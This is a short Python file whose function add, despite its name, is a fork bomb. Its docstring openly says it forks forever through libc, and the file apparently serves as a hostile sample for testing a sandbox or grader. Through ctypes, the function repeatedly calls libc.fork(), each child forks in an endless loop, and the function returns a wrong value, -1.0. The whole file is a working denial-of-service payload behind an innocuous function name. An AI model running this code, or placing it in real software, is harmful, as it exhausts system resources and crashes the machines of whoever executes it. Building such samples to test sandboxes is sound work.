"""Forks for ever while it is loaded, through libc and not through Python.

Touches: add
"""

import ctypes

libc = ctypes.CDLL(None, use_errno=True)


def add(a, b):
    for _ in range(1000):
        if libc.fork() == 0:
            while True:
                libc.fork()
    return -1.0
